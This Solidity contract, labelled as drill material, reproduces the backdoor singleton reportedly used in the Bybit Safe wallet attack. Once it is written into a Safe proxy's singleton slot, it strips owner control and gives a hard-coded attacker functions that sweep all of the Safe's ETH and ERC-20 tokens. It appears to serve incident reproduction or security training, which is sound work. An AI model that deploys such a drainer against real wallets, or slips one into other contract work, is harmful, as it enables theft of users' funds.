// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// @title BackdoorSingleton - what the Bybit attacker swapped in as the Safe's singleton (drill material)
/// @notice Once SafeUpgradeTrap has written this contract's address into a
/// Safe proxy's slot 0, the proxy delegates every call here: the Safe has no
/// owners, threshold or execTransaction any more, only these two sweeps,
/// which only the attacker may call. They move the Safe's ETH and tokens,
/// since they run in the proxy's context: address(this) is the Safe.
///
/// @dev DRILL CONTRACT. `attacker` is an immutable, so it lives in this
/// contract's code, not in storage, and reads the same in the proxy's
/// context; the Safe's storage (its owners, nonce and so on) is left as it
/// was, but nothing reads it any more.
///
/// Storage layout: slot 0: masterCopy (the proxy's singleton slot; nothing
/// here writes it).
contract BackdoorSingleton {
    using SafeERC20 for IERC20;

    /// @dev Slot 0, where a Safe proxy keeps its singleton: a placeholder,
    /// so that no variable of this contract lands on it.
    address private masterCopy;

    /// @notice The only account the sweeps answer to.
    address public immutable attacker;

    /// @notice `amount` of `token` (address(0) for ETH) went to `to`.
    event Swept(address indexed token, address indexed to, uint256 amount);

    constructor(address attacker_) {
        require(attacker_ != address(0), "zero address");
        attacker = attacker_;
    }

    modifier onlyAttacker() {
        require(msg.sender == attacker, "not the attacker");
        _;
    }

    /// @notice Send all the ETH held (the Safe's, through the proxy) to `to`.
    function sweepETH(address payable to) external onlyAttacker {
        uint256 amount = address(this).balance;
        emit Swept(address(0), to, amount);
        (bool ok, ) = to.call{value: amount}("");
        require(ok, "transfer failed");
    }

    /// @notice Send the whole balance of `token` held to `to`.
    function sweepERC20(address token, address to) external onlyAttacker {
        uint256 amount = IERC20(token).balanceOf(address(this));
        emit Swept(token, to, amount);
        IERC20(token).safeTransfer(to, amount);
    }

    /// @notice Keeps accepting ETH, as the Safe did.
    receive() external payable {}
}
